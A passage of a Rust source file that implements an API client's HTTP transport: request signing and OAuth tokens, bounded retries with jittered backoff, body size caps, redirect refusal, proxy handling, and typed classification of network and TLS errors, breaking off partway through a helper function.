//! HTTP transport: a reqwest client on our own rustls configuration, request signing, the
//! per-request timeout, bounded retries with backoff (how often depends on the failure's kind),
//! body size caps, cancellation, no redirects, proxies from [`ProxyConfig`], and a TRACE
//! `request` / WARN `retry` log line per attempt / retry.

use std::fmt::Display;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant, SystemTime};

use reqwest::header::{HeaderMap, HeaderValue};
use tokio_util::sync::CancellationToken;

use super::endpoint::Endpoint;
use super::error::{Attempts, ConfigError, Error, TlsProblem, TransportErrorKind};
use super::keys::SecretKey;
use super::oauth::{self, TokenSource};
use super::proxy::{ProxyConfig, ProxyUrl};
use super::signing::{self, RequestToSign};
use crate::log::Level;

/// Turns a response body into a value (a page, for listings). It runs on tokio's blocking pool
/// (decoding a page is CPU work that scales with what the server sends, and must not hold an
/// async worker that other RPCs need), hence owned and `'static`; it should return soon after
/// the token it is given is cancelled (the attempt it belongs to has ended).
pub(crate) type DecodeFn<T> =
    Arc<dyn Fn(&[u8], &CancellationToken) -> serde_json::Result<T> + Send + Sync + 'static>;

/// TLS settings for the API connection.
#[derive(Debug, Clone, Default)]
pub struct TlsOptions {
    /// Accept any server certificate (only when explicitly asked for).
    pub insecure: bool,
    /// Extra trusted CA certificates: PEM text, or a path to a PEM file.
    pub ca_certificate: Option<String>,
}

/// Retry delays: full-jitter exponential backoff, or the server's `Retry-After` (capped).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Backoff {
    /// The first retry waits up to this long; each further retry doubles it.
    pub base: Duration,
    /// No backoff delay exceeds this.
    pub max: Duration,
    /// A `Retry-After` longer than this is cut to this.
    pub max_retry_after: Duration,
}

impl Default for Backoff {
    fn default() -> Self {
        Backoff {
            base: Duration::from_millis(500),
            max: Duration::from_secs(30),
            max_retry_after: Duration::from_secs(60),
        }
    }
}

impl Backoff {
    /// The ceiling of the jittered delay before retry number `retry` (0-based).
    pub(crate) fn ceiling(&self, retry: u32) -> Duration {
        let factor = 1u32.checked_shl(retry.min(31)).unwrap_or(u32::MAX);
        self.base.saturating_mul(factor).min(self.max)
    }

    /// A delay drawn uniformly from `[0, ceiling(retry)]` ("full jitter").
    pub(crate) fn jittered(&self, retry: u32) -> Duration {
        let ceiling = self.ceiling(retry).as_micros().min(u64::MAX as u128) as u64;
        // Should the system RNG fail, half the ceiling still spreads retries out.
        Duration::from_micros(super::crypto::random_up_to(ceiling).unwrap_or(ceiling / 2))
    }

    /// The delay before retry number `retry`, honouring a server-given `Retry-After`.
    pub(crate) fn delay(&self, retry: u32, retry_after: Option<Duration>) -> Duration {
        match retry_after {
            Some(d) => d.min(self.max_retry_after),
            None => self.jittered(retry),
        }
    }
}

/// Runs `decode` over `body` on tokio's blocking pool. Decoding is CPU work that grows with
/// what the server sends (a page of hundreds of thousands of members took minutes), and on an
/// async worker it would stall every other RPC, timer and cancellation of the process. The
/// decode gets a token of its own, a child of `cancel`, that is cancelled when this future is
/// dropped: a read that times out, a StopProvider and an aborted page task all end the attempt
/// by dropping it, and the decode, which checks the token as it goes, stops within moments
/// instead of running on after its read has ended.
async fn decode_off_runtime<T: Send + 'static>(
    body: Vec<u8>,
    decode: &DecodeFn<T>,
    cancel: &CancellationToken,
    path: &str,
) -> Result<serde_json::Result<T>, Failure> {
    let token = cancel.child_token();
    let _stop_when_dropped = token.clone().drop_guard();
    let decode = decode.clone();
    let decoding = token.clone();
    let outcome = tokio::task::spawn_blocking(move || decode(&body, &decoding)).await;
    if token.is_cancelled() {
        return Err(Failure::fatal(Error::Cancelled));
    }
    outcome.map_err(|e| {
        Failure::fatal(Error::Decode {
            method: "GET".into(),
            path: path.into(),
            detail: format!("the decoder ended abnormally: {e}"),
        })
    })
}

/// Parses a `Retry-After` value: delta-seconds or an HTTP date (relative to `now`).
pub(crate) fn parse_retry_after(value: &str, now: SystemTime) -> Option<Duration> {
    let value = value.trim();
    if !value.is_empty() && value.bytes().all(|b| b.is_ascii_digit()) {
        // Absurdly long digit strings saturate; the caller caps the delay anyway.
        return Some(Duration::from_secs(
            value.parse::<u64>().unwrap_or(u64::MAX),
        ));
    }
    let at = httpdate::parse_http_date(value).ok()?;
    Some(at.duration_since(now).unwrap_or(Duration::ZERO))
}

/// Request and retry counters for one operation, and the read id its log lines carry.
#[derive(Debug, Default)]
pub(crate) struct Counters {
    pub(crate) requests: AtomicU64,
    pub(crate) retries: AtomicU64,
    /// [`super::ListQuery::read_id`] of the read these requests belong to ("" for none).
    pub(crate) read_id: String,
}

/// Where log records go: [`crate::log::log`] (the sink the application set), or a capture in
/// tests.
type LogFn = fn(Level, &str, &[(&str, &dyn Display)]);

/// How requests are authenticated: signed with an API key, or with an OAuth Bearer token.
pub(crate) enum Auth {
    /// Every request signed (draft-cavage HTTP signatures) with the key.
    ApiKey { key_id: String, key: Arc<SecretKey> },
    /// Every request carries the client's current access token.
    OAuth(Arc<TokenSource>),
}

impl Auth {
    /// The scheme's name for log lines (never anything of the credentials).
    pub(crate) fn scheme(&self) -> &'static str {
        match self {
            Auth::ApiKey { .. } => "signature",
            Auth::OAuth(_) => "bearer",
        }
    }
}

pub(crate) struct Transport {
    http: reqwest::Client,
    endpoint: Endpoint,
    auth: Auth,
    timeout: Duration,
    /// The limit on making a connection (TCP and TLS), at most `timeout`.
    connect_timeout: Duration,
    max_retries: u32,
    backoff: Backoff,
    body_limit: usize,
    /// The proxy requests to the endpoint go through, if any.
    proxy: Option<ProxyUrl>,
    /// Whether `ca_certificate` was given (to tell "not signed by that CA" from "untrusted").
    custom_ca: bool,
    log: LogFn,
}

/// How often a failure may be retried.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum RetryRule {
    /// Retrying cannot help (a certificate rejection, a redirect, a malformed answer).
    Never,
    /// At most one retry, whatever `max_retries` says: a failure that rarely clears up within
    /// seconds (no such host, nothing listening, a timeout), so one more try is all it is worth.
    Once,
    /// Up to `max_retries`: a transient condition (408, 429, 500, 502, 503, 504, resets, cut bodies).
    UpToMax,
    /// Once, at once, whatever `max_retries` says: a 401 to a request with a Bearer token,
    /// repeated with a new token (the old one was revoked or expired early).
    NewToken,
}

/// One attempt's failure, whether it is worth retrying, and the server's `Retry-After`.
pub(crate) struct Failure {
    pub(crate) error: Error,
    pub(crate) rule: RetryRule,
    pub(crate) retry_after: Option<Duration>,
}

impl Failure {
    pub(crate) fn fatal(error: Error) -> Failure {
        Failure {
            error,
            rule: RetryRule::Never,
            retry_after: None,
        }
    }
}

/// API statuses worth retrying for an idempotent GET: timeouts and rate limits (408, 429) and
/// server-side failures (500, 502, 503, 504), as the AWS SDKs' standard mode and Google's API
/// clients do. Others (4xx, 501, 505…) cannot improve by asking again.
pub const RETRIED_STATUSES: [u16; 6] = [408, 429, 500, 502, 503, 504];

/// What a request line says besides the outcome.
struct RequestLine<'a> {
    method: &'static str,
    path: &'a str,
    scheme: &'static str,
    ms: u128,
    attempt: u32,
}

/// What one attempt saw, for its log line.
#[derive(Debug, Default)]
pub(crate) struct AttemptLog {
    pub(crate) status: Option<u16>,
    pub(crate) bytes: usize,
}

pub(crate) struct TransportSettings {
    pub(crate) endpoint: Endpoint,
    pub(crate) auth: Auth,
    pub(crate) tls: TlsOptions,
    pub(crate) proxy: ProxyConfig,
    pub(crate) timeout: Duration,
    pub(crate) connect_timeout: Duration,
    pub(crate) max_retries: u32,
    pub(crate) backoff: Backoff,
    pub(crate) body_limit: usize,
    pub(crate) max_connections: usize,
    pub(crate) user_agent: String,
}

impl Transport {
    pub(crate) fn new(s: TransportSettings) -> Result<Transport, ConfigError> {
        let custom_ca = s.tls.ca_certificate.is_some();
        let connect_timeout = s.connect_timeout.min(s.timeout);
        let tls = build_tls(&s.tls)?;
        let proxy = s.proxy.proxy_for(
            if s.endpoint.is_https() {
                "https"
            } else {
                "http"
            },
            s.endpoint.host(),
            s.endpoint.port(),
        )?;
        let builder = reqwest::Client::builder()
            .tls_backend_preconfigured(tls)
            .user_agent(s.user_agent)
            // The API never redirects API calls: a redirect would send the signed request's
            // headers and query to another host, and its unsigned answer would become results.
            .redirect(reqwest::redirect::Policy::none())
            .dns_resolver(Arc::new(SystemResolver))
            .connect_timeout(connect_timeout)
            .pool_idle_timeout(Duration::from_secs(90))
            .pool_max_idle_per_host(s.max_connections.max(1));
        let builder = match &proxy {
            // Proxy settings come only from `ProxyConfig`, never from the library's own look-up.
            None => builder.no_proxy(),
            Some(p) => builder.proxy(
                reqwest::Proxy::all(p.url().as_str())
                    .map_err(|e| ConfigError::Http(error_chain(&e)))?,
            ),
        };
        let http = builder
            .build()
            .map_err(|e| ConfigError::Http(error_chain(&e)))?;
        Ok(Transport {
            http,
            endpoint: s.endpoint,
            auth: s.auth,
            timeout: s.timeout,
            connect_timeout,
            max_retries: s.max_retries,
            backoff: s.backoff,
            body_limit: s.body_limit,
            proxy,
            custom_ca,
            log: crate::log::log,
        })
    }

    pub(crate) fn endpoint(&self) -> &Endpoint {
        &self.endpoint
    }

    fn retry_limit(&self, rule: RetryRule) -> u32 {
        match rule {
            RetryRule::Never => 0,
            RetryRule::Once => self.max_retries.min(1),
            RetryRule::UpToMax => self.max_retries,
            RetryRule::NewToken => 0,
        }
    }

    pub(crate) fn http(&self) -> &reqwest::Client {
        &self.http
    }

    pub(crate) fn timeout(&self) -> Duration {
        self.timeout
    }

    #[cfg(test)]
    pub(crate) fn set_timeout_for_tests(&mut self, timeout: Duration) {
        self.timeout = timeout;
    }

    /// The token source, when requests carry OAuth tokens.
    pub(crate) fn token_source(&self) -> Option<&TokenSource> {
        match &self.auth {
            Auth::OAuth(source) => Some(source),
            Auth::ApiKey { .. } => None,
        }
    }

    /// GETs `path_and_query` (already percent-encoded; signed exactly as given) and decodes the
    /// JSON body with `decode`, retrying transient failures (a body that ends early included).
    /// With OAuth, a 401 drops the token the request carried and repeats it once with a new one.
    /// Logs a TRACE `request` line per attempt and a WARN `retry` line per retry.
    pub(crate) async fn get_decoded<T: Send + 'static>(
        &self,
        path_and_query: &str,
        cancel: &CancellationToken,
        counters: &Counters,
        decode: &DecodeFn<T>,
    ) -> Result<T, Error> {
        // Set once this request met a 401 and is repeated with a new token.
        let repeating = std::sync::atomic::AtomicBool::new(false);
        self.with_retries(
            "GET",
            path_and_query,
            self.auth.scheme(),
            cancel,
            counters,
            || async {
                counters.requests.fetch_add(1, Ordering::Relaxed);
                let mut seen = AttemptLog::default();
                let mut bearer = None;
                let mut outcome = self
                    .attempt::<T>(
                        path_and_query,
                        decode,
                        cancel,
                        &counters.read_id,
                        &mut seen,
                        &mut bearer,
                    )
                    .await;
                match (&mut outcome, &bearer, &self.auth) {
                    (Ok(_), Some(token), _) => token.mark_worked(),
                    (Err(failure), Some(token), Auth::OAuth(source)) => {
                        // The server may echo any token; no error shows one.
                        let error = std::mem::replace(&mut failure.error, Error::Cancelled);
                        failure.error = source.mask(error);
                        if failure.error.status() == Some(401) {
                            let repeat = repeating.load(Ordering::SeqCst);
                            if source.refused(token, repeat, &failure.error).await {
                                repeating.store(true, Ordering::SeqCst);
                                failure.rule = RetryRule::NewToken;
                            } else {
                                failure.rule = RetryRule::Never;
                            }
                        }
                    }
                    _ => {}
                }
                (seen, outcome)
            },
        )
        .await
    }

    /// Runs `attempt` until it succeeds or its failure may not be retried (by the rule of the
    /// failure's kind and `max_retries`), waiting the backoff (or `Retry-After`) in between.
    /// Logs a TRACE `request` line per attempt (method, path, the auth scheme's name) and a WARN
    /// `retry` line per retry.
    pub(crate) async fn with_retries<T, F, Fut>(
        &self,
        method: &'static str,
        path: &str,
        scheme: &'static str,
        cancel: &CancellationToken,
        counters: &Counters,
        mut attempt: F,
    ) -> Result<T, Error>
    where
        F: FnMut() -> Fut,
        Fut: std::future::Future<Output = (AttemptLog, Result<T, Failure>)>,
    {
        let started = Instant::now();
        let mut retry = 0u32;
        let mut sent = 0u32;
        let mut token_repeated = false;
        loop {
            if cancel.is_cancelled() {
                return Err(Error::Cancelled);
            }
            sent += 1;
            let attempt_started = Instant::now();
            let (seen, outcome) = tokio::select! {
                biased;
                _ = cancel.cancelled() => return Err(Error::Cancelled),
                r = attempt() => r,
            };
            let line = RequestLine {
                method,
                path,
                scheme,
                ms: attempt_started.elapsed().as_millis(),
                attempt: sent,
            };
            let failure = match outcome {
                Ok(v) => {
                    self.log_request(counters, &line, &seen, None);
                    return Ok(v);
                }
                Err(f) => f,
            };
            let cause = cause_of(&failure.error);
            self.log_request(counters, &line, &seen, Some(&cause));
            let allowed = match failure.rule {
                RetryRule::NewToken => !token_repeated,
                rule => retry < self.retry_limit(rule),
            };
            if !allowed {
                return Err(with_attempts(
                    failure.error,
                    Attempts::new(sent, started.elapsed()),
                ));
            }
            let delay = if failure.rule == RetryRule::NewToken {
                token_repeated = true;
                Duration::ZERO
            } else {
                self.backoff.delay(retry, failure.retry_after)
            };
            (self.log)(
                Level::Warn,
                "retry",
                &[
                    ("read_id", &counters.read_id),
                    ("path", &path),
                    ("attempt", &sent),
                    ("cause", &cause),
                    ("delay_ms", &delay.as_millis()),
                ],
            );
            if failure.rule != RetryRule::NewToken {
                retry += 1;
            }
            counters.retries.fetch_add(1, Ordering::Relaxed);
            tokio::select! {
                biased;
                _ = cancel.cancelled() => return Err(Error::Cancelled),
                _ = tokio::time::sleep(delay) => {}
            }
        }
    }

    /// The TRACE `request` line of one attempt (never a header: the signature or token stays
    /// out; `auth` names the scheme only).
    fn log_request(
        &self,
        counters: &Counters,
        line: &RequestLine<'_>,
        seen: &AttemptLog,
        error: Option<&str>,
    ) {
        let error_text = error.unwrap_or_default();
        let outcome: (&str, &dyn Display) = match &seen.status {
            Some(status) => ("status", status),
            None => ("error", &error_text),
        };
        (self.log)(
            Level::Trace,
            "request",
            &[
                ("read_id", &counters.read_id),
                ("method", &line.method),
                ("path", &line.path),
                outcome,
                ("bytes", &seen.bytes),
                ("ms", &line.ms),
                ("attempt", &line.attempt),
                ("auth", &line.scheme),
            ],
        );
    }

    fn network_error(&self, kind: TransportErrorKind, path: &str, detail: String) -> Error {
        // An error text could quote the proxy URL; its password never goes further.
        let detail = match self.proxy.as_ref().and_then(ProxyUrl::password) {
            Some(password) if !password.is_empty() => detail.replace(&password, "***"),
            _ => detail,
        };
        // Library error text quotes what the server sent (a certificate's thousand names, a
        // redirect's host): cut like any server text, after the password is masked.
        let detail = server_text(&detail, MAX_SERVER_MESSAGE_CHARS);
        Error::Network {
            kind,
            method: "GET",
            path: path.into(),
            detail,
            attempts: Attempts::default(),
        }
    }

    /// The URL and signed headers of a GET of `path_and_query` (an error: never worth retrying).
    /// The URL of `path_and_query` on the endpoint, refused when the library would send a
    /// different request target (what is signed must be exactly what goes on the wire).
    pub(crate) fn url_for(&self, path_and_query: &str) -> Result<url::Url, Error> {
        let invalid = |detail: String| {
            self.network_error(TransportErrorKind::InvalidRequest, path_and_query, detail)
        };
        let url = reqwest::Url::parse(&format!("{}{}", self.endpoint.base_url(), path_and_query))
            .map_err(|e| invalid(format!("invalid URL: {e}")))?;
        let sent = match url.query() {
            Some(q) => format!("{}?{}", url.path(), q),
            None => url.path().to_string(),
        };
        if sent != path_and_query {
            return Err(invalid(format!(
                "the request target would be re-encoded as {sent:?}"
            )));
        }
        Ok(url)
    }

    /// The URL and headers of a GET of `path_and_query` with a Bearer token.
    fn bearer_request(
        &self,
        path_and_query: &str,
        token: &oauth::Token,
    ) -> Result<(url::Url, HeaderMap), Error> {
        let url = self.url_for(path_and_query)?;
        let mut headers = HeaderMap::new();
        headers.insert(
            reqwest::header::ACCEPT,
            HeaderValue::from_static("application/json"),
        );
        headers.insert(reqwest::header::AUTHORIZATION, token.header()?);
        Ok((url, headers))
    }

    fn signed_request(
        &self,
        path_and_query: &str,
        key_id: &str,
        key: &SecretKey,
    ) -> Result<(url::Url, HeaderMap), Error> {
        let invalid = |detail: String| {
            self.network_error(TransportErrorKind::InvalidRequest, path_and_query, detail)
        };
        let url = self.url_for(path_and_query)?;
        let host = self.endpoint.host_header();
        let signed = signing::sign(
            &RequestToSign {
                method: "GET",
                path_and_query,
                host: &host,
                body: b"",
            },
            key,
            key_id,
            SystemTime::now(),
        )
        .map_err(|e| invalid(e.to_string()))?;
        // No explicit Host: hyper derives it from the URL, which is exactly `host_header()`
        // (the URL parser drops a default port, as we do).
        let mut headers = HeaderMap::new();
        for (name, value) in [
            (reqwest::header::DATE, signed.date.as_str()),
            (reqwest::header::CONTENT_TYPE, signed.content_type),
            (reqwest::header::ACCEPT, "application/json"),
            (
                reqwest::header::AUTHORIZATION,
                signed.authorization.as_str(),
            ),
        ] {
            let mut value = HeaderValue::from_str(value)
                .map_err(|_| invalid(format!("the {name} header value is not valid")))?;
            // Keeps the signature out of any header debug output.
            value.set_sensitive(name == reqwest::header::AUTHORIZATION);
            headers.insert(name, value);
        }
        let digest = HeaderValue::from_str(&signed.digest)
            .map_err(|_| invalid("the digest header value is not valid".into()))?;
        headers.insert("digest", digest);
        Ok((url, headers))
    }

    /// One request: send, then decode a success, refuse a redirect, or describe an error answer.
    async fn attempt<T: Send + 'static>(
        &self,
        path_and_query: &str,
        decode: &DecodeFn<T>,
        cancel: &CancellationToken,
        read_id: &str,
        seen: &mut AttemptLog,
        bearer: &mut Option<oauth::Token>,
    ) -> Result<T, Failure> {
        let (url, headers) = match &self.auth {
            Auth::ApiKey { key_id, key } => self
                .signed_request(path_and_query, key_id, key)
                .map_err(Failure::fatal)?,
            Auth::OAuth(source) => {
                let token = source
                    .token(self, cancel, read_id)
                    .await
                    .map_err(|e| Failure::fatal(token_failure(e)))?;
                let request = self.bearer_request(path_and_query, &token);
                *bearer = Some(token);
                request.map_err(Failure::fatal)?
            }
        };
        let response = self
            .http
            .get(url.clone())
            .headers(headers)
            .timeout(self.timeout)
            .send()
            .await
            .map_err(|e| self.classify(&e, path_and_query))?;
        let status = response.status();
        seen.status = Some(status.as_u16());
        if status.is_redirection() {
            return Err(self.redirect(&response, &url, path_and_query));
        }
        if !status.is_success() {
            // With OAuth the server could echo a token: masked before any cut.
            let masks = match &self.auth {
                Auth::OAuth(source) => source.masks(),
                Auth::ApiKey { .. } => Vec::new(),
            };
            let masks: Vec<&str> = masks.iter().map(|s| s.as_str()).collect();
            return Err(self
                .error_answer(response, path_and_query, seen, &masks)
                .await);
        }
        let body = self
            .read_body(response, path_and_query, self.body_limit)
            .await?;
        seen.bytes = body.len();
        // 204 says there is no body: not a body cut short, and asking again will not help.
        if status == reqwest::StatusCode::NO_CONTENT {
            return Err(Failure {
                error: Error::Decode {
                    method: "GET".into(),
                    path: path_and_query.into(),
                    detail: "the server answered HTTP 204 (no content) where a page of \
                             results was expected"
                        .into(),
                },
                rule: RetryRule::Never,
                retry_after: None,
            });
        }
        decode_off_runtime(body, decode, cancel, path_and_query)
            .await?
            .map_err(|e| {
                let truncated = e.is_eof();
                let error = Error::Decode {
                    method: "GET".into(),
                    path: path_and_query.into(),
                    detail: if truncated {
                        format!("the body ends early (truncated?): {e}")
                    } else {
                        e.to_string()
                    },
                };
                // JSON that stops mid-value is a body cut short (even when its length header
                // agrees): worth another try. Well-formed but wrong JSON is not.
                Failure {
                    error,
                    rule: if truncated {
                        RetryRule::UpToMax
                    } else {
                        RetryRule::Never
                    },
                    retry_after: None,
                }
            })
    }

    /// An API error status: its code, message and trace id, retried when the status may pass.
    pub(crate) async fn error_answer(
        &self,
        response: reqwest::Response,
        path_and_query: &str,
        seen: &mut AttemptLog,
        secrets: &[&str],
    ) -> Failure {
        let status = response.status().as_u16();
        let retry_after = response
            .headers()
            .get(reqwest::header::RETRY_AFTER)
            .and_then(|v| v.to_str().ok())
            .and_then(|v| parse_retry_after(v, SystemTime::now()));
        // The server chooses the header as freely as the body: the same cut as `traceId`.
        let header_trace = response
            .headers()
            .get("x-starship-traceid")
            .and_then(|v| v.to_str().ok())
            .map(|v| server_text(&oauth::mask_text(v, secrets), MAX_TRACE_ID_CHARS))
            .filter(|v| !v.is_empty());
        // Error bodies are small; one over 64 KiB is left unread (the status stands alone)
        // rather than failing the diagnosis.
        let body = self
            .read_body(response, path_and_query, 64 * 1024)
            .await
            .unwrap_or_default();
        seen.bytes = body.len();
        let parsed = ErrorBody::parse_masked(&body, secrets);
        Failure {
            error: Error::Api {
                status,
                code: parsed.code,
                message: parsed.message,
                trace_id: parsed.trace_id.or(header_trace),
                method: "GET",
                path: path_and_query.into(),
                attempts: Attempts::default(),
            },
            rule: if RETRIED_STATUSES.contains(&status) {
                RetryRule::UpToMax
            } else {
                RetryRule::Never
            },
            retry_after,
        }
    }

    /// A 3xx answer: an error naming the status and where it pointed, never followed.
    pub(crate) fn redirect(
        &self,
        response: &reqwest::Response,
        base: &url::Url,
        path: &str,
    ) -> Failure {
        let status = response.status().as_u16();
        let location = response
            .headers()
            .get(reqwest::header::LOCATION)
            .and_then(|v| v.to_str().ok())
            .and_then(|v| base.join(v.trim()).ok())
            .and_then(|u| {
                let host = u.host_str()?;
                Some(match u.port() {
                    Some(port) => format!("{}://{host}:{port}", u.scheme()),
                    None => format!("{}://{host}", u.scheme()),
                })
            });
        let detail = match &location {
            Some(to) => format!(
                "{} answered HTTP {status}, a redirect to {to}, which is not followed",
                self.endpoint
            ),
            None => format!(
                "{} answered HTTP {status}, a redirect (without a usable Location), which is not followed",
                self.endpoint
            ),
        };
        Failure::fatal(self.network_error(
            TransportErrorKind::Redirect { status, location },
            path,
            detail,
        ))
    }

    /// Reads the body in chunks, refusing more than `limit` bytes.
    pub(crate) async fn read_body(
        &self,
        mut response: reqwest::Response,
        path: &str,
        limit: usize,
    ) -> Result<Vec<u8>, Failure> {
        let too_large = || {
            Failure::fatal(Error::BodyTooLarge {
                method: "GET".into(),
                path: path.into(),
                limit,
            })
        };
        if response.content_length().is_some_and(|n| n > limit as u64) {
            return Err(too_large());
        }
        let mut body = Vec::with_capacity(
            response
                .content_length()
                .map_or(16 * 1024, |n| n as usize)
                .min(limit),
        );
        while let Some(chunk) = response
            .chunk()
            .await
            .map_err(|e| self.classify(&e, path))?
        {
            if body.len() + chunk.len() > limit {
                return Err(too_large());
            }
            body.extend_from_slice(&chunk);
        }
        Ok(body)
    }

    /// Turns a library error into a typed failure: its kind decides the retries and the
    /// advice, so nothing downstream reads message text.
    pub(crate) fn classify(&self, e: &reqwest::Error, path: &str) -> Failure {
        if e.is_timeout() {
            return Failure {
                error: Error::Timeout {
                    method: "GET",
                    path: path.into(),
                    timeout: if e.is_connect() {
                        self.connect_timeout
                    } else {
                        self.timeout
                    },
                    connecting: e.is_connect(),
                    attempts: Attempts::default(),
                },
                rule: RetryRule::Once,
                retry_after: None,
            };
        }
        let causes = std::error::Error::source(e).map(error_chain);
        let with_causes = |what: String| match &causes {
            Some(c) => format!("{what}: {c}"),
            None => what,
        };
        let (kind, rule, what) = if let Some(problem) = tls_problem(e) {
            (
                TransportErrorKind::Tls {
                    problem,
                    custom_ca: self.custom_ca,
                },
                RetryRule::Never,
                format!("TLS refused the connection to {}", self.endpoint),
            )
        } else if let Some(h) = find_in_chain::<hyper::Error>(e).filter(|h| h.is_parse()) {
            if h.is_parse_too_large() {
                (
                    TransportErrorKind::HeadTooLarge,
                    RetryRule::Never,
                    format!("the response head from {} is too large", self.endpoint),
                )
            } else {
                (
                    TransportErrorKind::Protocol {
                        plain_http: !self.endpoint.is_https(),
                    },
                    RetryRule::Never,
                    format!("the answer from {} is not HTTP", self.endpoint),
                )
            }
        } else if let (Some(proxy), true) = (&self.proxy, e.is_connect()) {
            (
                TransportErrorKind::Proxy {
                    proxy: proxy.display_name(),
                },
                RetryRule::Once,
                format!(
                    "cannot reach {} through the proxy {}",
                    self.endpoint,
                    proxy.display_name()
                ),
            )
        } else if find_in_chain::<DnsFailure>(e).is_some() {
            (
                TransportErrorKind::Dns,
                RetryRule::Once,
                format!("cannot resolve the host name of {}", self.endpoint),
            )
        } else if e.is_connect() && is_unreachable(e) {
            (
                TransportErrorKind::Connect,
                RetryRule::Once,
                format!("cannot connect to {}", self.endpoint),
            )
        } else if e.is_builder() {
            (
                TransportErrorKind::InvalidRequest,
                RetryRule::Never,
                format!("the request to {} could not be built", self.endpoint),
            )
        } else if e.is_body() || e.is_decode() {
            (
                TransportErrorKind::Reset,
                RetryRule::UpToMax,
                "the response was cut off".to_string(),
            )
        } else if !self.endpoint.is_https() && self.proxy.is_none() && closed_before_answer(e) {
            // Over `http://` this is more often an HTTPS port than a flaky network: say so, and
            // do not spend `max_retries` backoffs on it.
            (
                TransportErrorKind::ResetOnPlainHttp,
                RetryRule::Once,
                format!(
                    "{} closed the connection without answering (does the port speak HTTPS?)",
                    self.endpoint
                ),
            )
        } else {
            // Resets, connections closed before or during the answer: transient.
            (
                TransportErrorKind::Reset,
                RetryRule::UpToMax,
                format!("the connection to {} failed", self.endpoint),
            )
        };
        Failure {
            error: self.network_error(kind, path, with_causes(what)),
            rule,
            retry_after: None,
        }
    }
}

/// A failure to get a token, as a page request's error: refusals and unusable answers as they
/// are, anything else (after the token request's own retries) wrapped so that it is not taken
/// for the page request's own failure.
fn token_failure(error: Error) -> Error {
    match error {
        Error::TokenRefused { .. }
        | Error::TokenResponse { .. }
        | Error::TokenRequest(_)
        | Error::Cancelled => error,
        // The API's refusal of a new token, latched by the token source (the token endpoint
        // itself never answers this: its 401 is `TokenRefused`).
        Error::Api { status: 401, .. } => error,
        other => Error::TokenRequest(Box::new(other)),
    }
}

/// A short cause for log lines: the status, the kind of failure, or the error.
fn cause_of(error: &Error) -> String {
    match error {
        Error::Api { status, .. } => format!("HTTP {status}"),
        Error::Timeout {
            timeout,
            connecting,
            ..
        } => format!(
            "{} ({timeout:?})",
            if *connecting {
                "connect timeout"
            } else {
                "timeout"
            }
        ),
        Error::Network { kind, detail, .. } => format!("{}: {detail}", kind.name()),
        other => other.to_string(),
    }
}

/// The error with the attempts that led to it (for the errors of one request).
fn with_attempts(mut error: Error, total: Attempts) -> Error {
    if let Error::Api { attempts, .. }
    | Error::Network { attempts, .. }
    | Error::Timeout { attempts, .. } = &mut error
    {
        *attempts = total;
    }
    error
}

/// Host name resolution through the system resolver (as the library's default), with its
/// failures typed so that they can be told apart, and RFC 6761 `.invalid` names answered
/// "no such host" at once without asking any server (section 6.4).
struct SystemResolver;

/// A host name that could not be resolved.
#[derive(Debug, thiserror::Error)]
#[error("cannot resolve {host:?}: {reason}")]
struct DnsFailure {
    host: String,
    reason: String,
}

impl reqwest::dns::Resolve for SystemResolver {
    fn resolve(&self, name: reqwest::dns::Name) -> reqwest::dns::Resolving {
        let host = name.as_str().to_string();
        Box::pin(async move {
            let fail = |reason: String| -> Box<dyn std::error::Error + Send + Sync> {
                Box::new(DnsFailure {
                    host: host.clone(),
                    reason,
                })
            };
            let lower = host.trim_end_matches('.').to_ascii_lowercase();
            if lower == "invalid" || lower.ends_with(".invalid") {
                return Err(fail(
                    "names under .invalid never resolve (RFC 6761)".to_string(),
                ));
            }
            let addrs: Vec<SocketAddr> = tokio::net::lookup_host((host.as_str(), 0))
                .await
                .map_err(|e| fail(e.to_string()))?
                .collect();
            if addrs.is_empty() {
                return Err(fail("no addresses".to_string()));
            }
            let addrs: reqwest::dns::Addrs = Box::new(addrs.into_iter());
            Ok(addrs)
        })
    }
}

/// The first error of type `E` in the chain of `e` (looking inside `io::Error`s too).
fn find_in_chain<'a, E: std::error::Error + 'static>(
    e: &'a (dyn std::error::Error + 'static),
) -> Option<&'a E> {
    if let Some(found) = e.downcast_ref::<E>() {
        return Some(found);
    }
    if let Some(found) = e
        .downcast_ref::<std::io::Error>()
        .and_then(|io| io.get_ref())
        .and_then(|inner| find_in_chain::<E>(inner))
    {
        return Some(found);
    }
    e.source().and_then(find_in_chain::<E>)
}

/// What TLS objected to, when the failure is a TLS rejection: retrying cannot help.
fn tls_problem(e: &(dyn std::error::Error + 'static)) -> Option<TlsProblem> {
    use rustls::CertificateError as C;
    let error = find_in_chain::<rustls::Error>(e)?;
    Some(match error {
        rustls::Error::InvalidCertificate(c) => match c {
            // A bad signature: a trusted CA's name matched the issuer but its key did not sign
            // the certificate (another CA of the same name): no trusted CA issued it either.
            C::UnknownIssuer | C::BadSignature => TlsProblem::UnknownIssuer,
            C::NotValidForName | C::NotValidForNameContext { .. } => TlsProblem::WrongName,
            C::Expired
            | C::ExpiredContext { .. }
            | C::NotValidYet
            | C::NotValidYetContext { .. } => TlsProblem::Validity,
            _ => TlsProblem::OtherCertificate,
        },
        rustls::Error::AlertReceived(rustls::AlertDescription::NoApplicationProtocol) => {
            TlsProblem::NoHttp11
        }
        rustls::Error::InvalidMessage(rustls::InvalidMessage::HandshakePayloadTooLarge) => {
            TlsProblem::HandshakeTooLarge
        }
        _ => TlsProblem::Handshake,
    })
}

/// The connection was reset or closed before any of the answer arrived (never a body error:
/// those are answers cut short).
fn closed_before_answer(e: &reqwest::Error) -> bool {
    use std::io::ErrorKind as K;
    if e.is_body() || e.is_decode() || e.is_timeout() {
        return false;
    }
    if find_in_chain::<hyper::Error>(e).is_some_and(hyper::Error::is_incomplete_message) {
        return true;
    }
    let mut source: Option<&(dyn std::error::Error + 'static)> = Some(e);
    while let Some(s) = source {
        if let Some(io) = s.downcast_ref::<std::io::Error>() {
            if matches!(
                io.kind(),
                K::ConnectionReset | K::ConnectionAborted | K::BrokenPipe
            ) {
                return true;
            }
        }
        source = s.source();
    }
    false
}

/// Nothing accepted the connection: refused, or no route to the host or its network.
fn is_unreachable(e: &(dyn std::error::Error + 'static)) -> bool {
    use std::io::ErrorKind as K;
    let mut source: Option<&(dyn std::error::Error + 'static)> = Some(e);
    while let Some(s) = source {
        if let Some(io) = s.downcast_ref::<std::io::Error>() {
